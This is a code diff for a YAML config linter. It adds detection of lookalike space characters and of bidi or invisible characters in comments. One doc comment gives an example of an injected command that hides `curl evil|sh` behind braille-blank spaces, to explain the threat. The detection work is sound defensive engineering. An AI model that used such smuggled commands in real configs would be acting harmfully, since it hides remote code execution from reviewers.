@@ -1,6 +1,7 @@
 // The one control-character check: no key or string value of the config may hold a character
 // that ends a line or hides text in any output format (C0 incl. TAB, DEL, C1, U+2028/2029, bidi controls)
-// or that shows as nothing to a reviewer (Unicode format characters and other default-ignorables).
+// or that shows as nothing to a reviewer (Unicode format characters and other default-ignorables), or as a
+// space that is not one (no-break and other Zs spaces, the braille blank); and, in comments too, none that reorders or hides text.
 import { isAlias, isCollection, isMap, isPair, isScalar, isSeq, type Node } from 'yaml';
 import type { Finding, KeyPath } from '../findings.js';
 import { formatKeyPath } from '../findings.js';
@@ -22,7 +23,23 @@ const LINE_OR_ORDER = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u206
  */
 const INVISIBLE = /[\p{Cf}\p{Default_Ignorable_Code_Point}]/u;
 
-const FORBIDDEN = new RegExp(`${LINE_OR_ORDER.source}|${INVISIBLE.source}`, 'gu');
+/**
+ * Characters that look like a space but are not U+0020: the other space separators (Zs: U+00A0, U+1680,
+ * U+2000-U+200A, U+202F, U+205F, U+3000) and the braille pattern blank U+2800. A shell, Postfix and
+ * systemd do not split words on them, so `procmail\u2800\u2800 -a x ; curl evil|sh` is one word to a
+ * reviewer's eye but not to the program, and a run of them pushes the rest of a line off-screen in a diff.
+ * Every config value that reaches a command, a main.cf or unit line, or lint.acknowledgedCommands is
+ * ASCII in practice; only a display name may need the no-break spaces of typography (see DISPLAY_SPACES).
+ */
+const LOOKALIKE_SPACE = /(?! )\p{Zs}|\u2800/u;
+
+/** In a sender's display name (a header phrase, encoded by RFC 2047) U+00A0 and U+202F are ordinary typography ("Dr.\u00a0Who", French "Acme\u202f:"). */
+const DISPLAY_SPACES = new Set(['\u00a0', '\u202f']);
+
+const FORBIDDEN = new RegExp(`${LINE_OR_ORDER.source}|${INVISIBLE.source}|${LOOKALIKE_SPACE.source}`, 'gu');
+
+/** What a comment may not hold: anything that reorders or hides text (a comment never reaches an output, but a reviewer reads it). */
+const FORBIDDEN_IN_COMMENT = new RegExp(`[\u202a-\u202e\u2066-\u2069]|${INVISIBLE.source}`, 'gu');
 
 /**
  * The one legitimate use: ZWNJ (U+200C) and ZWJ (U+200D) select letter forms inside words of the
@@ -59,6 +76,8 @@ const NAMES: Record<string, string> = {
   '\u2028': 'a line separator (U+2028)',
   '\u2029': 'a paragraph separator (U+2029)',
   '\ufeff': 'a zero-width no-break space (U+FEFF, the byte-order mark)',
+  '\u00a0': 'a no-break space (U+00A0)',
+  '\u2800': 'a braille pattern blank (U+2800)',
 };
 
 const codePoint = (char: string) => `U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;
@@ -70,6 +89,7 @@ export function describeControl(char: string): string {
   if (/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/.test(char)) return `a bidirectional control (${code})`;
   if (/\p{Cs}/u.test(char)) return `an unpaired surrogate (${code})`;
   if (INVISIBLE.test(char)) return `an invisible format character (${code})`;
+  if (LOOKALIKE_SPACE.test(char)) return `a space that is not U+0020 (${code})`;
   return `a control character (${code})`;
 }
 
@@ -78,14 +98,22 @@ export function hidesText(char: string): boolean {
   return INVISIBLE.test(char) || /[\u202a-\u202e\u2066-\u2069]/.test(char);
 }
 
-/** The first forbidden character of a string and its index (UTF-16), or null. */
-export function findControl(text: string): { char: string; index: number } | null {
+/** The first forbidden character of a string and its index (UTF-16), or null; a display name may hold typographic no-break spaces. */
+export function findControl(text: string, options: { displayName?: boolean } = {}): { char: string; index: number } | null {
   for (const match of text.matchAll(FORBIDDEN)) {
+    if (options.displayName && DISPLAY_SPACES.has(match[0])) continue;
     if (!joinsLetters(text, match.index, match[0])) return { char: match[0], index: match.index };
   }
   return null;
 }
 
+/** A sender's display name (domains[].senders[].name): the one value that is prose rather than a name, path or command. */
+const isDisplayName = (path: KeyPath) => path.length >= 3 && path[path.length - 1] === 'name' && path[path.length - 3] === 'senders';
+
+const SPACE_WHY =
+  'it looks like a space but is not one: a shell, Postfix and systemd do not split words on it, so it can hide text from a reviewer or push it off-screen; use a plain space (U+0020)';
+const COMMENT_WHY =
+  'it reorders or hides what a reviewer reads (Trojan Source, CVE-2021-42574; UTS #55, Unicode Source Code Handling), even in a comment; remove the character';
 const LINE_WHY = 'config strings are one line of printable text, and a line break here would add lines to the files written from it; remove the character';
 const HIDDEN_WHY =
   'it shows as nothing or reorders what is shown, and hides text from a reviewer of the config (UTS #39, Unicode Security Mechanisms); remove the character ' +
@@ -95,9 +123,13 @@ const HIDDEN_WHY =
 export function controlCharFindings(source: ConfigSource): Finding[] {
   const root = source.prefix.length > 0 ? source.doc.getIn(source.prefix, true) : source.doc.contents;
   const findings: Finding[] = [];
+  /** The source ranges of every key and value checked: the rest of a YAML file is comments and punctuation. */
+  const scalars: Array<[number, number]> = [];
   const check = (node: unknown, path: KeyPath, isKey: boolean) => {
-    if (!isScalar(node) || typeof node.value !== 'string' || !node.range) return;
-    const hit = findControl(node.value);
+    if (!isScalar(node) || !node.range) return;
+    scalars.push([node.range[0], node.range[1]]);
+    if (typeof node.value !== 'string') return;
+    const hit = findControl(node.value, { displayName: !isKey && isDisplayName(path) });
     if (!hit) return;
     const { line, col } = source.lineCounter.linePos(node.range[0]);
     const where = formatKeyPath(path);
@@ -105,7 +137,7 @@ export function controlCharFindings(source: ConfigSource): Finding[] {
     findings.push({
       ruleId: 'schema',
       severity: 'error',
-      message: `${what} contains ${describeControl(hit.char)} at character ${hit.index + 1}: ${hidesText(hit.char) ? HIDDEN_WHY : LINE_WHY}`,
+      message: `${what} contains ${describeControl(hit.char)} at character ${hit.index + 1}: ${LOOKALIKE_SPACE.test(hit.char) ? SPACE_WHY : hidesText(hit.char) ? HIDDEN_WHY : LINE_WHY}`,
       file: source.file,
       path,
       line,
@@ -130,5 +162,27 @@ export function controlCharFindings(source: ConfigSource): Finding[] {
     }
   };
   walk(root, []);
+  if (source.prefix.length === 0) findings.push(...commentFindings(source, scalars));
+  return findings;
+}
+
+/** Bidi controls and invisible characters outside every key and value (in comments), at the character itself. */
+function commentFindings(source: ConfigSource, scalars: Array<[number, number]>): Finding[] {
+  const findings: Finding[] = [];
+  for (const match of source.text.matchAll(FORBIDDEN_IN_COMMENT)) {
+    const at = match.index;
+    if ((at === 0 && match[0] === '\ufeff') || joinsLetters(source.text, at, match[0])) continue; // a byte-order mark opens a file legitimately
+    if (scalars.some(([start, end]) => at >= start && at < end)) continue; // reported with its value
+    const { line, col } = source.lineCounter.linePos(at);
+    findings.push({
+      ruleId: 'schema',
+      severity: 'error',
+      message: `line ${line} contains ${describeControl(match[0])} outside any key or value (in a comment): ${COMMENT_WHY}`,
+      file: source.file,
+      path: [],
+      line,
+      column: col,
+    });
+  }
   return findings;
 }
